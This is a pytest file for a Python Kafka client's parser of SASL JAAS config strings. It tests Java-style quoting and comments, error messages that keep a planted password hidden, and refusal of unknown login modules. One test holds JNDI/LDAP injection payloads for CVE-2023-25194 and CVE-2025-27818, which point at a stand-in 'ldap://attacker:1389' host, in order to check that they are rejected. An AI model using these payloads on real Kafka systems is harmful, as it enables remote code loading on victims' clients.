"""`sasl.jaas.config` as people write it, what is wrong with one, and that nothing in it is loaded or shown."""

import importlib
import socket
import sys

import pytest

from logkernel.errors import ConfigError
from logkernel.security import jaas

PLAIN = "org.apache.kafka.common.security.plain.PlainLoginModule"
SCRAM = "org.apache.kafka.common.security.scram.ScramLoginModule"
SECRET = "hunter2-planted"


def test_user_and_password_are_read_from_the_usual_text():
    module = jaas.parse(f'{PLAIN} required username="alice" password="s3cret";')
    assert (module.family, module.needed("username"), module.needed("password")) == ("PLAIN", "alice", "s3cret")


@pytest.mark.parametrize(
    ("text", "password"),
    [
        (f"{SCRAM} required\n  username='bob'\n  password='it\"s' ;\n", 'it"s'),
        (f'{SCRAM} Required username=bob password="a\\"b\\\\c";', 'a"b\\c'),
        (f'{SCRAM} required username="bob" password = "a;b=c//d/*e*/" ;', "a;b=c//d/*e*/"),
        (f'// who we are\n{SCRAM} /* always */ required username="bob" password="x";  // end', "x"),
        (f'{SCRAM} required username="bob" password="\\101\\t\\q";', "A\tq"),
        (f'{SCRAM} required username="bob" password="";', ""),
        (f'{SCRAM} required username="bob" password=12345;', "12345"),
    ],
)
def test_strings_comments_and_escapes_are_those_of_java(text, password):
    module = jaas.parse(text)
    assert (module.family, module.option("username"), module.option("password")) == ("SCRAM", "bob", password)


def test_the_class_may_be_shaded_as_that_of_databricks_is():
    assert jaas.parse(f"kafkashaded.{PLAIN} required username=a password=b;").family == "PLAIN"


def test_tokenauth_is_on_where_it_says_true():
    assert jaas.parse(f'{SCRAM} required username="id" password="hmac" tokenauth="TRUE";').is_on("tokenauth")
    assert not jaas.parse(f'{SCRAM} required username="id" password="hmac";').is_on("tokenauth")


@pytest.mark.parametrize(
    ("text", "why"),
    [
        ("", "names no login module"),
        (f"{PLAIN}", "`required` is missing"),
        (f'{PLAIN} username="a";', "`required` is missing"),
        (f'{PLAIN} required username="a" password="{SECRET}"', "semicolon at the end is missing"),
        (f"{PLAIN} required username;", "option 1 has no `=`"),
        (f"{PLAIN} required username=a password=;", "option 2 has no value"),
        (f'{PLAIN} required ="{SECRET}";', "has no option before it"),
        (f'{PLAIN} required username=a password="{SECRET};', "quote is not closed"),
        (f'{PLAIN} required password="{SECRET}\n";', "quote is not closed"),
        (f"{PLAIN} required password={SECRET}/{SECRET};", "outside of quotes"),
        (f"{PLAIN} required username=a; {SCRAM} required username={SECRET};", "more than one login module"),
        (f"// {PLAIN} required username=a", "names no login module"),
        (f"// {PLAIN} required username=a\n'", "quote is not closed"),
        (SECRET, "its first word is not a login module"),
        ("x" * (jaas.LONGEST + 1), "characters"),
    ],
)
def test_a_wrong_text_is_refused_without_showing_it(text, why):
    with pytest.raises(ConfigError, match=why) as refused:
        jaas.parse(text)
    assert SECRET not in str(refused.value)


def test_an_option_that_a_mechanism_needs_is_named():
    with pytest.raises(ConfigError, match="PlainLoginModule has no password"):
        jaas.parse(f"{PLAIN} required username=a;").needed("password")


@pytest.mark.parametrize(
    ("module", "options"),
    [
        pytest.param(
            "com.sun.security.auth.module.JndiLoginModule",
            'user.provider.url="ldap://attacker:1389/x" group.provider.url="ldap://attacker:1389/x"',
            id="CVE-2023-25194",
        ),
        pytest.param(
            "com.sun.security.auth.module.LdapLoginModule", 'userProvider="ldap://attacker:1389/x"', id="CVE-2025-27818"
        ),
        pytest.param("os.path.join", "", id="a module of Python"),
    ],
)
def test_no_class_is_loaded_by_its_name(module, options, monkeypatch):
    def load(*args, **kwargs):
        raise AssertionError(f"{args[0]} was loaded")

    monkeypatch.setattr(importlib, "import_module", load)
    monkeypatch.setattr(socket.socket, "connect", load)
    known = set(sys.modules)
    with pytest.raises(ConfigError, match=f"{module} is not a login module that this client knows"):
        jaas.parse(f"{module} required {options};")
    assert set(sys.modules) == known


def test_no_option_is_shown_by_repr():
    module = jaas.parse(f'{PLAIN} required username="alice" password="{SECRET}";')
    assert SECRET not in repr(module)
    assert SECRET not in f"{module.options} {module.options['password']}"


def test_the_login_of_aws_iam_is_refused_with_the_way_to_have_it():
    with pytest.raises(ConfigError, match="OAUTHBEARER"):
        jaas.parse("software.amazon.msk.auth.iam.IAMLoginModule required;")


def test_a_long_run_of_comments_is_read_in_one_pass():
    """Comments that could be taken as words would be tried in every way."""
    with pytest.raises(ConfigError, match="quote is not closed"):
        jaas.parse("/* a */ // b\n" * 20_000 + "'")
